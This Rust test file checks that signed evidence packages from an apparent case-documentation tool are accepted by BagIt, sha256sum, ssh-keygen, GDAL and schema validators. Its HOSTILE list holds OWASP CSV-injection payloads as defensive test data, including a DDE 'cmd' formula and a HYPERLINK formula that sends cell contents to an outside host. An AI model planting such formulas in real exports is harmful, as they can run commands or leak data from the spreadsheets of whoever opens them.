//! Packages as others see them: the reference implementation of BagIt, `sha256sum`, `ssh-keygen`, GDAL, pandas, a JSON
//! Schema validator and a spreadsheet. Where one of them is not installed its part is skipped with a word on standard
//! error; `setup.sh` and `.ci/run` install all.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;

use assert_cmd::Command as Program;
use tempfile::TempDir;
use witnessmark::case::{Author, Case, Reader};
use witnessmark::exchange::merging::merge;
use witnessmark::exchange::package::read::check;
use witnessmark::exchange::package::{PackageError, Plan, export, outlook};
use witnessmark::job::Progress;
use witnessmark::model::record::RecordKind;
use witnessmark::model::{Change, Component, NewPhoto, Photo, RecordRef, Strike};

/// The program in a home of its own.
struct Home(TempDir);

impl Home {
    /// A home with the demonstration case, which is made once for all tests.
    fn with_case() -> Self {
        static CASE: OnceLock<Vec<u8>> = OnceLock::new();
        let home = Self(tempfile::tempdir().unwrap());
        let case = CASE.get_or_init(|| {
            home.ok(&["demo", "--no-window", "--case", "case.witness"]);
            add_what_is_hard(&home.path("case.witness"));
            home.ok(&["sign", "case.witness"]);
            std::fs::read(home.path("case.witness")).unwrap()
        });
        std::fs::write(home.path("case.witness"), case).unwrap();
        home
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    fn run(&self, arguments: &[&str]) -> (i32, String, String) {
        let output = Program::cargo_bin("witnessmark")
            .unwrap()
            .args(arguments)
            .env("HOME", self.0.path())
            .env("LC_ALL", "C")
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("XDG_DATA_HOME")
            .env_remove("DISPLAY")
            .current_dir(self.0.path())
            .output()
            .unwrap();
        let text = |bytes| String::from_utf8(bytes).unwrap();
        (
            output.status.code().unwrap(),
            text(output.stdout),
            text(output.stderr),
        )
    }

    fn ok(&self, arguments: &[&str]) -> String {
        let (code, out, err) = self.run(arguments);
        assert_eq!(code, 0, "{arguments:?}: {out}{err}");
        out
    }

    /// A package of the demonstration case, signed, as a folder.
    fn demonstration(&self) -> PathBuf {
        self.ok(&["package", "case.witness", "out", "--sign"]);
        self.path("out")
    }
}

/// Texts with which spreadsheets were attacked, and others that break tables (OWASP, "CSV Injection").
const HOSTILE: [&str; 14] = [
    "=1+1",
    "=HYPERLINK(\"http://e.example/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "'=1+1",
    "a\r\nb\"c,d;e",
    "-5",
    "Київ 한글 \u{202e}abc",
];

/// Records whose texts are hostile and whose numbers are negative.
fn add_what_is_hard(path: &Path) {
    let author = Author {
        person: "=O. Tester()".to_owned(),
        device: "11111111-1111-7111-8111-111111111111".to_owned(),
        device_name: "test laptop".to_owned(),
    };
    let mut case = Case::open(path, author).unwrap();
    for (number, text) in (0i32..).zip(HOSTILE) {
        let strike = Strike {
            title: text.to_owned(),
            notes: text.to_owned(),
            place_name: Some(text.to_owned()),
            latitude: Some(-33.868_812_345 - f64::from(number)),
            longitude: Some(-151.2 + f64::from(number) / 3.0),
            radius_m: (number % 2 == 0).then_some(250.0),
            ..Strike::default()
        };
        case.apply(Change::Create(strike.into())).unwrap();
    }
    let component = Component {
        title: "=1+1".to_owned(),
        latitude: Some(50.45),
        longitude: Some(30.52),
        mass_g: Some(0.1),
        ..Component::default()
    };
    case.apply(Change::Create(component.into())).unwrap();
    case.close().unwrap();
}

/// Runs another program. `None`, with a word, when it is not installed.
fn other(program: &str, arguments: &[&str], folder: &Path, input: Option<&Path>) -> Option<Output> {
    let stdin = input.map_or_else(Stdio::null, |file| std::fs::File::open(file).unwrap().into());
    match Command::new(program)
        .args(arguments)
        .current_dir(folder)
        .stdin(stdin)
        .output()
    {
        Ok(output) => Some(output),
        Err(error) => {
            eprintln!("skipped: {program} is not installed ({error}); setup.sh and .ci/run install it");
            None
        }
    }
}

/// That another program ended well, if it is installed. Gives what it said.
fn accepts(program: &str, arguments: &[&str], folder: &Path, input: Option<&Path>) -> Option<String> {
    let output = other(program, arguments, folder, input)?;
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(output.status.success(), "{program} {arguments:?}: {said}");
    Some(said)
}

/// A Python that has the validators: the one that `.ci/run` made, else the machine's.
fn python() -> String {
    let home = std::env::var("HOME").unwrap_or_default();
    let made = format!("{home}/.cache/witnessmark-venv/bin/python");
    if Path::new(&made).exists() {
        made
    } else {
        "python3".to_owned()
    }
}

/// Runs a check of `tests/package/validators.py`.
fn validates(check: &str, package: &Path) {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/package/validators.py");
    let arguments = [script.to_str().unwrap(), check, package.to_str().unwrap()];
    let Some(output) = other(&python(), &arguments, package, None) else {
        return;
    };
    let said = String::from_utf8_lossy(&output.stderr);
    match output.status.code() {
        Some(3) => eprintln!("skipped: {check}: {said}"),
        code => assert_eq!(code, Some(0), "{check}: {said}"),
    }
}

/// That everyone who can judge a package finds it good.
fn others_accept(package: &Path) {
    for manifest in ["manifest-sha256.txt", "tagmanifest-sha256.txt"] {
        accepts(
            "sha256sum",
            &["--check", "--quiet", "--strict", manifest],
            package,
            None,
        );
    }
    let has_bagit = other(&python(), &["-c", "import bagit"], package, None);
    if has_bagit.is_some_and(|output| output.status.success()) {
        accepts(&python(), &["-m", "bagit", "--validate", "."], package, None);
    } else {
        eprintln!("skipped: Python has no module bagit; .ci/run installs it");
    }
    validates("tables", package);
    validates("schemas", package);
    if package.join("data/history").exists() {
        validates("history", package);
    }
    let places = package.join("data/records/places.geojson");
    if let Some(said) = accepts(
        "ogrinfo",
        &["-al", "-so", places.to_str().unwrap()],
        package,
        None,
    ) {
        let text = std::fs::read_to_string(&places).unwrap();
        let count = text.matches("\"type\":\"Feature\"").count();
        assert!(!said.contains("Warning") && !said.contains("ERROR"), "{said}");
        // GDAL gives an empty collection no count.
        assert!(
            count == 0 || said.contains(&format!("Feature Count: {count}")),
            "{said}"
        );
    }
}

#[test]
fn everyone_who_can_judge_a_package_of_the_demonstration_case_accepts_it() {
    let home = Home::with_case();
    let package = home.demonstration();
    others_accept(&package);
    let verify = [
        "-Y",
        "verify",
        "-f",
        "allowed_signers",
        "-I",
        "witnessmark",
        "-n",
        "witnessmark",
        "-s",
    ];
    let mut arguments = verify.to_vec();
    arguments.push("tagmanifest-sha256.txt.sig");
    let signed = package.join("tagmanifest-sha256.txt");
    let said = accepts("ssh-keygen", &arguments, &package, Some(&signed));
    assert!(said.is_none_or(|said| said.contains("Good")));
    // The signature that was made in the case.
    let folder = package.join("data/signatures");
    let statement = std::fs::read_dir(&folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .find(|path| path.extension().is_some_and(|ending| ending == "txt"))
        .unwrap();
    let signature = format!("{}.sig", statement.display());
    let mut arguments = verify.to_vec();
    arguments.push(&signature);
    let said = accepts("ssh-keygen", &arguments, &folder, Some(&statement));
    assert!(said.is_none_or(|said| said.contains("Good")));
}

#[test]
fn the_same_case_gives_the_same_package_and_its_originals_are_the_case_s() {
    let home = Home::with_case();
    let package = home.demonstration();
    home.ok(&["package", "case.witness", "again", "--sign"]);
    let difference = accepts("diff", &["-r", "out", "again"], home.0.path(), None);
    assert!(difference.is_none_or(|said| said.is_empty()));
    let mut count = 0;
    for entry in std::fs::read_dir(package.join("data/originals")).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_stem().unwrap().to_str().unwrap().to_owned();
        let taken = home.path(&name);
        home.ok(&["extract", "case.witness", &name, taken.to_str().unwrap()]);
        assert_eq!(std::fs::read(&taken).unwrap(), std::fs::read(&path).unwrap());
        count += 1;
    }
    assert!(count > 3);
}

#[test]
fn an_archive_holds_what_the_folder_holds() {
    let home = Home::with_case();
    let package = home.demonstration();
    home.ok(&["package", "case.witness", "out.zip", "--zip", "--sign"]);
    std::fs::create_dir(home.path("again")).unwrap();
    home.ok(&["package", "case.witness", "again/out.zip", "--zip", "--sign"]);
    let mut archive = zip::ZipArchive::new(std::fs::File::open(home.path("out.zip")).unwrap()).unwrap();
    archive.extract(home.path("unpacked")).unwrap();
    let unpacked = home.path("unpacked/out");
    let difference = accepts("diff", &["-r", "out", "unpacked/out"], home.0.path(), None);
    assert!(difference.is_none_or(|said| said.is_empty()));
    others_accept(&unpacked);
    assert!(package.exists());
    let name = |name: &str| std::fs::read(home.path(name)).unwrap();
    assert!(
        name("out.zip") == name("again/out.zip"),
        "the same case gives the same archive"
    );
}

#[test]
fn what_stands_there_already_is_not_touched() {
    let home = Home::with_case();
    std::fs::create_dir(home.path("taken")).unwrap();
    std::fs::write(home.path("file.zip"), "mine").unwrap();
    std::fs::create_dir(home.path("new.partial")).unwrap();
    std::fs::write(home.path("new.partial/notes.txt"), "mine").unwrap();
    std::fs::write(home.path("new.zip.partial"), "mine").unwrap();
    for arguments in [
        vec!["package", "case.witness", "taken"],
        vec!["package", "case.witness", "file.zip", "--zip"],
        vec!["package", "case.witness", "new"],
        vec!["package", "case.witness", "new.zip", "--zip"],
    ] {
        let (code, _, err) = home.run(&arguments);
        assert_eq!(code, 1, "{arguments:?}");
        assert!(err.contains("not touched"), "{err}");
    }
    assert_eq!(std::fs::read(home.path("file.zip")).unwrap(), b"mine");
    assert_eq!(std::fs::read(home.path("new.zip.partial")).unwrap(), b"mine");
    assert_eq!(std::fs::read_dir(home.path("new.partial")).unwrap().count(), 1);
}

#[test]
fn our_own_reader_accepts_folder_and_archive_and_tells_what_is_wrong() {
    let home = Home::with_case();
    let package = home.demonstration();
    home.ok(&["package", "case.witness", "out.zip", "--zip", "--sign"]);
    for path in ["out", "out.zip"] {
        let said = home.ok(&["package", "check", path]);
        assert!(said.contains("Sound:") && said.contains("SHA256:"), "{said}");
        let json: serde_json::Value =
            serde_json::from_str(&home.ok(&["package", "check", path, "--json"])).unwrap();
        assert_eq!(json["faults"], serde_json::json!([]));
        assert_eq!(json["signatures"], 1);
    }
    std::fs::write(package.join("data/records/strike.csv"), "id\r\n").unwrap();
    let (code, out, err) = home.run(&["package", "check", "out"]);
    assert_eq!(code, 1);
    assert!(err.contains("data/records/strike.csv: it was changed"), "{err}");
    assert!(out.contains("were found") || out.contains("was found"), "{out}");
    let (code, _, err) = home.run(&["package", "check", "out.zip", "--signed-by", "SHA256:other"]);
    assert_eq!(code, 1);
    assert!(err.contains("another key"), "{err}");
}

#[test]
fn a_selection_holds_what_belongs_to_it_and_tells_nothing_of_the_rest() {
    let home = Home::with_case();
    let list = home.ok(&["list", "case.witness", "markings", "--json"]);
    let list: serde_json::Value = serde_json::from_str(&list).unwrap();
    let component = list[0]["component"].as_str().unwrap();
    let shown: serde_json::Value =
        serde_json::from_str(&home.ok(&["show", "case.witness", component, "--json"])).unwrap();
    let weapon = shown.to_string();
    let weapon = weapon
        .split("\"weapon\":\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap();
    home.ok(&["package", "case.witness", "part", "--of", "weapon", weapon]);
    let verdict = check(&home.path("part"), None, &Progress::new()).unwrap();
    assert!(verdict.is_sound(), "{:?}", verdict.faults);
    let count = |folder: &str, kind: &str| {
        let lines =
            std::fs::read_to_string(home.path(folder).join(format!("data/records/{kind}.jsonl"))).unwrap();
        lines.lines().count()
    };
    assert_eq!((count("part", "weapon"), count("part", "strike")), (1, 1));
    assert!(
        count("part", "component") > 0 && count("part", "marking") > 0 && count("part", "transcription") > 0
    );
    assert!(count("part", "photo") > 0);
    assert!(!home.path("part/data/history").exists());
    home.ok(&[
        "package",
        "case.witness",
        "more",
        "--of",
        "weapon",
        weapon,
        "--with-history",
    ]);
    let verdict = check(&home.path("more"), None, &Progress::new()).unwrap();
    assert!(
        verdict.is_sound() && verdict.signatures == 1,
        "{:?}",
        verdict.faults
    );
    home.ok(&["package", "case.witness", "bare", "--without-history"]);
    let verdict = check(&home.path("bare"), None, &Progress::new()).unwrap();
    assert!(verdict.is_sound() && verdict.entries == 0, "{:?}", verdict.faults);
    assert!(count("part", "strike") < count("bare", "strike"));
    let (code, _, err) = home.run(&["package", "case.witness", "x", "--of", "tag", weapon]);
    assert!(code == 2 && err.contains("can’t be chosen"), "{err}");
    let (code, _, _) = home.run(&["package", "case.witness", "x", "--of", "strike", weapon]);
    assert_eq!(code, 1);
    assert!(!home.path("x").exists() && !home.path("x.partial").exists());
}

#[test]
fn an_export_that_was_cut_short_is_gone_on_with() {
    let home = Home::with_case();
    let author = Author {
        person: "O. Tester".to_owned(),
        device: "11111111-1111-7111-8111-111111111111".to_owned(),
        device_name: "test laptop".to_owned(),
    };
    let case = Case::open(&home.path("case.witness"), author).unwrap();
    let reader = case.reader().unwrap();
    let stopped = Progress::new();
    stopped.cancel();
    let to = home.path("out");
    let refused = export(&reader, &Plan::whole(), None, &to, &stopped);
    assert!(matches!(refused, Err(PackageError::Cancelled(kept)) if kept == home.path("out.partial")));
    let whole = export(
        &reader,
        &Plan::whole(),
        None,
        &home.path("other"),
        &Progress::new(),
    )
    .unwrap();
    // As a kill leaves it: some originals whole, one half, one changed, and one of records that are gone since.
    let folder = home.path("out.partial/data/originals");
    std::fs::create_dir_all(&folder).unwrap();
    let mut names: Vec<_> = std::fs::read_dir(home.path("other/data/originals"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    names.sort();
    for (number, path) in names.iter().enumerate() {
        let mut bytes = std::fs::read(path).unwrap();
        match number {
            0 => bytes.truncate(bytes.len() / 2),
            1 => bytes[10] ^= 1,
            _ => {}
        }
        std::fs::write(folder.join(path.file_name().unwrap()), bytes).unwrap();
    }
    std::fs::write(folder.join(format!("{}.jpg", "0".repeat(64))), "stale").unwrap();
    let made = export(&reader, &Plan::whole(), None, &to, &Progress::new()).unwrap();
    assert_eq!(
        (made.originals, made.kept),
        (whole.originals, whole.originals - 2)
    );
    assert!(!home.path("out.partial").exists());
    let difference = accepts("diff", &["-r", "out", "other"], home.0.path(), None);
    assert!(difference.is_none_or(|said| said.is_empty()));
    // A file that no export of ours wrote is never taken out.
    let again = home.path("again");
    let refused = export(&reader, &Plan::whole(), None, &again, &stopped);
    assert!(refused.is_err());
    std::fs::write(home.path("again.partial/mine.txt"), "mine").unwrap();
    let refused = export(&reader, &Plan::whole(), None, &again, &Progress::new());
    assert!(matches!(refused, Err(PackageError::Foreign(file)) if file.ends_with("mine.txt")));
    // Nor is a folder of another case gone on with.
    let some = Plan::of(vec![RecordRef::new(RecordKind::Strike, first_strike(&reader))]);
    let refused = export(&reader, &some, None, &again, &Progress::new());
    assert!(matches!(refused, Err(PackageError::Foreign(_))));
}

fn first_strike(reader: &Reader) -> String {
    reader.all::<Strike>().unwrap()[0].id.to_string()
}

/// A photo of these bytes, with an id of its own as versions before format 9 gave it.
fn photo(bytes: &[u8]) -> Change {
    let photo = Photo {
        sha256: witnessmark::case::sha256(bytes),
        byte_size: bytes.len() as u64,
        file_name: "same.jpg".to_owned(),
        width: 40,
        height: 30,
        ..Photo::default()
    };
    Change::AddPhoto(Box::new(NewPhoto {
        photo,
        bytes: bytes.to_vec(),
        ..NewPhoto::default()
    }))
}

#[test]
fn two_photos_of_one_original_are_handed_over_with_it_once() {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name);
    let author = |name: &str| Author {
        person: name.to_owned(),
        device: format!("device of {name}"),
        device_name: format!("laptop {name}"),
    };
    Case::create(&path("a.witness"), "Kyiv", author("A"))
        .unwrap()
        .close()
        .unwrap();
    std::fs::copy(path("a.witness"), path("b.witness")).unwrap();
    let mut other = Case::open(&path("b.witness"), author("B")).unwrap();
    other.apply(photo(b"same")).unwrap();
    other.close().unwrap();
    let mut case = Case::open(&path("a.witness"), author("A")).unwrap();
    case.apply(photo(b"same")).unwrap();
    let other = Reader::open(&path("b.witness")).unwrap();
    merge(&mut case, &other, "b.witness", false, &Progress::new()).unwrap();
    let reader = case.reader().unwrap();
    assert_eq!(reader.all::<Photo>().unwrap().len(), 2);
    for is_zip in [false, true] {
        let plan = Plan {
            is_zip,
            ..Plan::whole()
        };
        assert_eq!(outlook(&reader, &plan).unwrap().originals, 1);
        let to = path(if is_zip { "out.zip" } else { "out" });
        let made = export(&reader, &plan, None, &to, &Progress::new()).unwrap();
        assert_eq!((made.originals, made.kept), (1, 0));
        let verdict = check(&to, None, &Progress::new()).unwrap();
        assert!(
            verdict.is_sound() && verdict.originals == 1,
            "{:?}",
            verdict.faults
        );
    }
}

#[test]
fn photos_at_hand_are_handed_over_byte_for_byte() {
    let home = Home::with_case();
    let folder = std::env::var("WITNESSMARK_PHOTOS").unwrap_or_else(|_| {
        let own = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/photos");
        own.to_str().unwrap().to_owned()
    });
    home.ok(&["new", "photos.witness"]);
    // Some of them are refused by design; the rest goes on.
    home.run(&["import", "photos.witness", &folder]);
    home.ok(&["package", "photos.witness", "photos", "--sign"]);
    let package = home.path("photos");
    let verdict = check(&package, None, &Progress::new()).unwrap();
    assert!(
        verdict.is_sound() && verdict.originals > 5,
        "{:?}",
        verdict.faults
    );
    others_accept(&package);
}
